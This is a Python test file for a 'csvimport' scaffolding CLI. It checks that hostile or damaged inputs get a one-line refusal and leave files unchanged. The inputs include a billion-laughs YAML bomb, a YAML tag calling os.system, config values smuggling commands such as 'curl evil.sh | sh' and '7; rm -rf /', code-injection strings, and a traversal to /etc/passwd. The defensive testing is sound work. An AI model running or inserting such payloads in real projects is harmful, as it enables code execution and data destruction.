"""Files a careless or hostile user hands csvimport (spec files, csvimport.json, answers files,
the Prisma schema, package.json): each is refused with one line naming the file, exit 2, no
traceback, nothing written, and quickly."""

import json
import time
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from test_cli_bad_input import assert_one_line_usage_error

from csvimport_scaffold.errors import UsageError
from csvimport_scaffold.spec_file import read_spec_file
from csvimport_scaffold.user_files import load_user_yaml

from conftest import run_cli, tree_snapshot

LATIN1_COMMENT = "// Gr\xfc\xdfe\n".encode("latin-1")


def billion_laughs(levels: int = 9) -> str:
    """A few hundred bytes that expand to 9**levels strings."""
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for level in range(1, levels):
        name, previous = chr(97 + level), chr(96 + level)
        lines.append(f"{name}: &{name} [" + ",".join([f"*{previous}"] * 9) + "]")
    return "\n".join(lines) + "\n"


HOSTILE_SPECS = {
    "billion-laughs.yml": (billion_laughs(), "values once aliases are expanded"),
    "deep.yml": ("fields: " + "[" * 50_000 + "]" * 50_000 + "\n", "nesting deeper than"),
    "latin1.yml": (b"feature: user\nfields:\n  - name:string\n" + b"# \xfc\n", "0xfc"),
    "python-tag.yml": ("feature: !!python/object/apply:os.system [id]\n", "not valid YAML"),
}


@pytest.mark.parametrize("name", HOSTILE_SPECS)
def test_a_hostile_spec_file_is_refused_in_one_line(initialized_project: Path, name: str):
    text, message = HOSTILE_SPECS[name]
    spec = initialized_project / name
    spec.write_bytes(text if isinstance(text, bytes) else text.encode())
    before = tree_snapshot(initialized_project)
    started = time.monotonic()
    result = run_cli("new", "user", "--spec", name, "--project", ".", cwd=initialized_project)
    assert_one_line_usage_error(result, message)
    assert name in result.stderr
    assert time.monotonic() - started < 60  # not minutes of alias expansion
    assert tree_snapshot(initialized_project) == before


def test_a_device_as_spec_file_is_refused_by_its_size(initialized_project: Path):
    result = run_cli("new", "user", "--spec", "/dev/zero", "--project", str(initialized_project))
    assert_one_line_usage_error(result, "is larger than")


def test_a_directory_as_spec_file_is_refused(initialized_project: Path):
    (initialized_project / "specs").mkdir()
    result = run_cli("new", "user", "--spec", "specs", "--project", ".", cwd=initialized_project)
    assert_one_line_usage_error(result, "is a directory, not a file")


def _corrupt_config(root: Path) -> None:
    config = root / "csvimport.json"
    config.write_bytes(config.read_bytes().replace(b'"appDir"', b'"app\xffDir"'))


def _latin1_schema(root: Path) -> None:
    schema = root / "prisma/schema.prisma"
    schema.write_bytes(LATIN1_COMMENT + schema.read_bytes())


def _latin1_answers(root: Path) -> None:
    answers = root / ".csvimport/core.yml"
    answers.write_bytes(answers.read_bytes() + b"# \xe9\n")


def _answers_directory(root: Path) -> None:
    (root / ".csvimport/stray.yml").mkdir()


def _answers_list(root: Path) -> None:
    (root / ".csvimport/stray.yml").write_text("- kind: feature\n")


def _dependencies_list(root: Path) -> None:
    package = root / "package.json"
    data = json.loads(package.read_text())
    package.write_text(json.dumps({**data, "dependencies": ["next"]}))


def _bundle_directory(root: Path) -> None:
    bundle = root / ".csvimport/templates.bundle"
    bundle.unlink()
    bundle.mkdir()


def _latin1_generated_file(root: Path) -> None:
    generated = root / "src/app/functions/server/services/csv-import/is-record.ts"
    generated.write_bytes(generated.read_bytes() + LATIN1_COMMENT)


BROKEN_PROJECTS = [
    (_corrupt_config, ["check"], "csvimport.json is not UTF-8 text: byte 0xff at offset"),
    (_corrupt_config, ["list"], "csvimport.json is not UTF-8 text: byte 0xff"),
    (_latin1_schema, ["new", "user", "--fields", "name:string"], "schema.prisma is not UTF-8"),
    (_latin1_answers, ["check"], "answers file"),
    (_answers_directory, ["list"], "is a directory, not a file"),
    (_answers_list, ["check"], "must be a mapping with kind: core or kind: feature"),
    (_dependencies_list, ["init", "--force"], '"dependencies" must map package names'),
    (_bundle_directory, ["new", "user", "--fields", "name:string", "email:email"], "is not a file"),
    (_bundle_directory, ["check"], "templates.bundle is not a file"),
    (_bundle_directory, ["list"], "templates.bundle is not a file"),
    (_latin1_generated_file, ["check"], "is-record.ts is not UTF-8 text: byte 0xfc at offset"),
    (_latin1_generated_file, ["list"], "is-record.ts is not UTF-8 text"),
    (_latin1_generated_file, ["init"], "is-record.ts is not UTF-8 text"),
]


@pytest.mark.parametrize(
    ("damage", "arguments", "message"),
    BROKEN_PROJECTS,
    ids=[f"{damage.__name__[1:]}-{args[0]}" for damage, args, _ in BROKEN_PROJECTS],
)
def test_a_damaged_project_file_is_named_in_one_line(
    initialized_project: Path, damage, arguments: list[str], message: str
):
    damage(initialized_project)
    before = tree_snapshot(initialized_project)
    result = run_cli(*arguments, "--project", str(initialized_project))
    assert_one_line_usage_error(result, message)
    assert tree_snapshot(initialized_project) == before


@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.binary(max_size=400) | st.text(max_size=400).map(str.encode))
def test_any_bytes_as_a_spec_file_parse_or_give_a_usage_error(tmp_path_factory, data: bytes):
    spec = tmp_path_factory.mktemp("spec") / "spec.yml"
    spec.write_bytes(data)
    try:
        read_spec_file(spec)
    except UsageError as error:
        assert str(error) and "\n" not in str(error)


@settings(max_examples=200, deadline=None)
@given(
    st.recursive(
        st.none() | st.booleans() | st.integers() | st.text(max_size=8),
        lambda children: (
            st.lists(children, max_size=4)
            | st.dictionaries(st.text(max_size=4), children, max_size=4)
        ),
        max_leaves=40,
    )
)
def test_yaml_within_the_limits_loads_as_plain_yaml_would(value):
    text = yaml.safe_dump(value)
    assert load_user_yaml(text, "test") == yaml.safe_load(text)


# csvimport.json comes in pull requests: values that would reach generated code or paths
HOSTILE_CONFIG_VALUES = [
    ("authFunction", "getUser(); process.exit(1); //", "is not a JavaScript identifier"),
    ("authFunction", "class", "is not a JavaScript identifier"),
    ("logExport", "log } from 'x'; import {", "is not a JavaScript identifier"),
    ("prismaImport", '@/lib/db"; import "evil', "is not an import specifier"),
    ("logImport", "@/src/app/functions/log\nprocess.exit()", "is not an import specifier"),
    ("authImport", "../../../etc/passwd", "is not an import specifier"),
    ("appDir", "/etc", "is not a folder of the project"),
    ("appDir", "src/../../outside", "is not a folder of the project"),
    ("dashboardDir", "elsewhere/dashboard", "is not inside appDir"),
    ("packageManager", "curl evil.sh | sh", "is not one of npm, yarn, pnpm, bun"),
    ("formatter", "rm", "is not one of prettier, biome"),
    ("prismaVersion", "7; rm -rf /", "is not a version"),
    ("prismaImport", "@/lib/nowhere", "resolves to no module of the project"),
]


@pytest.mark.parametrize(
    ("key", "value", "message"),
    HOSTILE_CONFIG_VALUES,
    ids=[f"{k}={v[:20]}" for k, v, _ in HOSTILE_CONFIG_VALUES],
)
def test_a_hostile_csvimport_json_value_is_refused_before_anything_is_written(
    initialized_project: Path, key: str, value: str, message: str
):
    config = initialized_project / "csvimport.json"
    config.write_text(json.dumps({**json.loads(config.read_text()), key: value}))
    before = tree_snapshot(initialized_project)
    result = run_cli(
        "new", "user", "--fields", "name:string", "--project", str(initialized_project)
    )
    assert_one_line_usage_error(result, message)
    assert key in result.stderr
    assert tree_snapshot(initialized_project) == before
